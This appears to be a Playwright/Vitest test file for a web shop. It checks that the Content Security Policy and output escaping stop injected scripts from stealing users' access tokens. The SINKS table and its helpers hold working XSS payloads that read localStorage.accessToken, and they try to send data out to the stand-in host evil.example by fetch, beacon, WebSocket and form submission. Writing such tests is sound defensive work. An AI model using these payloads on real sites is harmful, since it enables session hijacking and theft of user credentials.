import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { HOSTILE_TEXTS } from '../src/security/hostile.ts'
import { linkIn, mailTo } from './mail.ts'
import { startShop } from './open-shop.ts'
import { aPerson, visit } from './person.ts'
import { aBuyer, anOrder, aProduct } from './standing.ts'

declare global {
  interface Window {
    pwned?: unknown
    violations?: string[]
  }
}

const BLOCKED = /Content Security Policy|violates|Refused to/

describe('a hole in a page, torn open on purpose,', () => {
  /** Stands for an injected script in the page of a signed-in user. */
  const SINKS: Record<string, string> = {
    'an event handler': '<img src="data:image/png,x" onerror="pwned = localStorage.accessToken">',
    'a handler of an svg': '<svg onload="pwned = localStorage.accessToken"></svg>',
    'a frame of its own': '<iframe srcdoc="<script>top.pwned = top.localStorage.accessToken</script>"></iframe>',
    'a javascript: frame': '<iframe src="javascript:top.pwned = top.localStorage.accessToken"></iframe>',
    'a data: frame': '<iframe src="data:text/html,<script>top.pwned=1</script>"></iframe>',
    'an object': '<object data="data:text/html,<script>top.pwned=1</script>"></object>',
    'an embed': '<embed src="data:text/html,<script>top.pwned=1</script>">',
    'a base': '<base href="https://evil.example/">',
    'a style element': '<style>body { background: url(https://evil.example/?css) }</style>',
  }

  test('of whatever kind, gives nobody’s token away', async () => {
    const [product, buyer] = await Promise.all([aProduct(), aBuyer({ provokes: BLOCKED })])
    const { page, context, origin } = buyer
    const { _id } = await anOrder(buyer, product)
    const left: string[] = []
    await context.route(/evil\.example/, (route) => {
      left.push(route.request().url())
      return route.abort()
    })
    for (const path of ['/', '/login', '/dashboard/profile', `/dashboard/payment/${_id}`]) {
      await visit(page, path)
      await expect.poll(() => page.evaluate(() => localStorage.getItem('accessToken'))).toBeTruthy()
      await tearOpen(page, Object.values(SINKS))
      await runStrings(page)
      const seen = () => page.evaluate(() => window.violations ?? [])
      await expect.poll(async () => (await seen()).length).toBeGreaterThan(8)
      const violated = new Set((await seen()).map((name) => name.replace(/-(elem|attr)$/, '')))
      for (const directive of ['script-src', 'object-src', 'base-uri', 'style-src', 'connect-src', 'form-action'])
        expect([...violated], path).toContain(directive)
      expect(await page.evaluate(() => window.pwned), path).toBeUndefined()
      expect([path, left]).toEqual([path, []])
      expect(new URL(page.url()).origin).toBe(origin)
    }
  })

  test('would give it away, were it not for the policy', async () => {
    const { page } = await aBuyer({ bypassCSP: true })
    await visit(page, '/')
    const token = () => page.evaluate(() => localStorage.getItem('accessToken'))
    await expect.poll(token).toBeTruthy()
    await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), SINKS['an event handler'] ?? '')
    await expect.poll(() => page.evaluate(() => window.pwned)).toBe(await token())
  })
})

describe('texts that want to be more', () => {
  let shop: Awaited<ReturnType<typeof startShop>>
  const products: { _id: string; name: string }[] = []
  let customer: Entered
  let admin: Entered

  beforeAll(async () => {
    shop = await startShop({ MAX_UNPAID_ORDERS: '100' })
    admin = await enter(shop.origin, 'sign-in', { email: 'admin@parts-house.example', password: 'parts-house' })
    const name = '<img src=x onerror=window.pwned=1>"\'</script>'
    customer = await enter(shop.origin, 'sign-up', { name, email: 'xss@example.com', password: 'cold-chain-42' })
    const mail = await mailTo('xss@example.com', /^Verify your e-mail/, join(shop.dataDir, 'mail'))
    const token = new URL(linkIn(mail, '/verify-email')).searchParams.get('token')
    await customer.call('POST', '/auth/verify-email', { token })
    for (const [index, text] of HOSTILE_TEXTS.entries()) {
      const form = { unitPrice: 48, minOrder: 4, stock: 200, image: '/drawings/fan-motor.svg' }
      const product = await admin.call('POST', '/product', { ...form, name: `${text} ${index}`, description: text })
      products.push(product)
      const where = { country: text.slice(0, 80), address: text, phone: text.slice(0, 40) }
      const order = { productId: product._id, productName: product.name, quantity: 4, price: 48 }
      await customer.call('POST', '/order', { ...order, ...where })
      await customer.call('POST', '/review', { review: 5, description: text })
    }
    const profile = {
      education: HOSTILE_TEXTS[2],
      location: HOSTILE_TEXTS[3],
      phone: '22 00 01 40',
      linkedin: 'https://x.example/"onmouseover="window.pwned=1',
    }
    await customer.call('PUT', '/user/xss%40example.com', profile)
  })
  afterAll(() => shop?.close())

  test('are text in the HTML of the server, in its titles and its JSON-LD', async () => {
    const harmless = await (await fetch(`${shop.origin}/products/${(await firstProduct()).slug}`)).text()
    const scripts = (html: string) => html.match(/<(script|iframe|object|embed|base|svg\/|math)\b/gi)?.length
    for (const { _id, name } of products) {
      const answer = await fetch(`${shop.origin}/products/${_id}`)
      const html = await answer.text()
      expect([name, scripts(html)]).toEqual([name, scripts(harmless)])
      expect(html, name).not.toMatch(/<img src=x|<svg\/onload|<a href="javascript|<math><mtext/)
      const [, title = ''] = /<title>([^<]*)<\/title>/.exec(html) ?? []
      expect(title, name).toContain('Parts House')
      const things = [...html.matchAll(/<script type="application\/ld\+json"[^>]*>([\s\S]*?)<\/script>/g)]
      expect(things).toHaveLength(2)
      expect(JSON.parse(things[0]?.[1] ?? '{}')).toMatchObject({ '@type': 'Product', name })
      expect(answer.headers.get('content-security-policy')).not.toContain('unsafe-inline; script')
    }
  })

  test('are text in the dashboards of who wrote them and who reads them', async () => {
    const screens: [Entered, string[]][] = [
      [
        customer,
        [
          '/dashboard/myorders',
          '/dashboard/profile',
          '/dashboard/review',
          ...products.slice(0, 2).map(({ _id }) => `/purcess/${_id}`),
        ],
      ],
      [
        admin,
        [
          '/dashboard/orders',
          '/dashboard/orders?q=%3Cscript%3E',
          '/dashboard/manageProducts?sort=newest',
          '/dashboard/makeAdmin',
          '/dashboard/audit',
        ],
      ],
    ]
    for (const [who, paths] of screens) {
      const { page, context } = await aPerson({ baseURL: shop.origin })
      await context.addCookies(who.cookies.map((cookie) => ({ ...cookie, url: shop.origin, httpOnly: true })))
      for (const path of paths) {
        await visit(page, path)
        expect(new URL(page.url()).pathname, path).toBe(path.replace(/\?.*/, ''))
        await expectHarmless(page, path)
      }
    }
  })

  test('are text on every screen after hydration, and in an address of the shop itself', async () => {
    const { page } = await aPerson({ baseURL: shop.origin })
    const some = (_: unknown, index: number) => index % 3 === 0
    const typed = HOSTILE_TEXTS.filter(some).map(encodeURIComponent)
    for (const path of [
      '/',
      '/products?sort=newest',
      '/products?page=2',
      ...products.filter(some).map(({ _id }) => `/purcess/${_id}`),
      ...typed.flatMap((text) => [`/login?from=${text}&error=${text}`, `/products?q=${text}`]),
      `/reset-password?token=${typed[1]}&error=${typed[1]}`,
    ]) {
      await visit(page, path)
      await expectHarmless(page, path)
    }
    for (const from of ['javascript:window.pwned=1', '//evil.example', '/\\evil.example', 'https://evil.example']) {
      await visit(page, `/login?from=${encodeURIComponent(from)}`)
      const links = await page.locator('a').all()
      expect(links.length).toBeGreaterThan(5)
      for (const link of links)
        expect((await link.getAttribute('href')) ?? '/').not.toMatch(/^(javascript:|\/\/|\/\\)|evil\.example$/)
    }
  })

  async function firstProduct() {
    return ((await (await fetch(`${shop.origin}/api/products?limit=1`)).json()) as [{ slug: string }])[0]
  }
})

/** Injects these texts, scripts, a link and a form into the page, which records what its policy forbids. */
const tearOpen = (page: Page, sinks: string[]) =>
  page.evaluate((sinks) => {
    window.violations = []
    addEventListener('securitypolicyviolation', ({ violatedDirective }) => window.violations?.push(violatedDirective))
    for (const html of sinks) document.body.insertAdjacentHTML('beforeend', html)
    const inline = document.createElement('script')
    inline.textContent = 'pwned = localStorage.accessToken'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    const blob = document.createElement('script')
    blob.src = URL.createObjectURL(new Blob(['pwned = localStorage.accessToken'], { type: 'text/javascript' }))
    const dataScript = document.createElement('script')
    dataScript.src = 'data:text/javascript,pwned=localStorage.accessToken'
    document.head.append(inline, foreign, blob, dataScript)
    const link = document.createElement('a')
    link.href = 'javascript:pwned=localStorage.accessToken'
    document.body.append(link)
    link.click()
    const form = document.createElement('form')
    form.action = 'https://evil.example/'
    form.target = '_self'
    document.body.append(form)
    form.submit()
  }, sinks)

/** Code from a string must run in the page's own world, where the policy applies. */
const runStrings = (page: Page) =>
  page.evaluate(() => {
    const button = document.createElement('button')
    document.body.append(button)
    button.setAttribute('onclick', 'pwned = localStorage.accessToken')
    button.click()
    void fetch('https://evil.example/?fetch').catch(() => undefined)
    navigator.sendBeacon('https://evil.example/?beacon')
    try {
      new WebSocket('wss://evil.example/')
    } catch {
      // Refused at once in some browsers.
    }
  })

type Entered = Awaited<ReturnType<typeof enter>>

/** Somebody of this shop, by calls. */
async function enter(
  origin: string,
  how: 'sign-in' | 'sign-up',
  who: { email: string; password: string; name?: string },
) {
  const send = async (method: string, path: string, json: object, headers: Record<string, string> = {}) => {
    const all = { 'Content-Type': 'application/json', Origin: origin, ...headers }
    const answer = await fetch(`${origin}/api${path}`, { method, headers: all, body: JSON.stringify(json) })
    if (!answer.ok) throw new Error(`${method} ${path} answered ${answer.status}: ${await answer.text()}`)
    return answer
  }
  const entered = await send('POST', `/auth/${how}/email`, who)
  const cookies = entered.headers.getSetCookie().map((line) => {
    const [pair = ''] = line.split(';')
    return { name: pair.slice(0, pair.indexOf('=')), value: pair.slice(pair.indexOf('=') + 1) }
  })
  const Cookie = cookies.map(({ name, value }) => `${name}=${value}`).join('; ')
  const synced = await send(
    'PUT',
    `/user/${encodeURIComponent(who.email)}`,
    { email: who.email, name: 'x' },
    { Cookie },
  )
  const { token } = (await synced.json()) as { token: string }
  const call = async (method: string, path: string, json: object) =>
    (await send(method, path, json, { Authorization: `Bearer ${token}`, Cookie })).json() as Promise<{
      _id: string
      name: string
    }>
  return { cookies, call }
}

/** Checks that no script ran and that no text became an element. */
async function expectHarmless(page: Page, about: string) {
  const found = await page.evaluate(() => ({
    pwned: window.pwned,
    injected: document.querySelectorAll(
      'img[src="x"], [onerror], [onload], [onmouseover], [onfocus], iframe[srcdoc], a[href^="javascript:"], math, base',
    ).length,
  }))
  expect({ about, ...found }).toEqual({ about, pwned: undefined, injected: 0 })
}
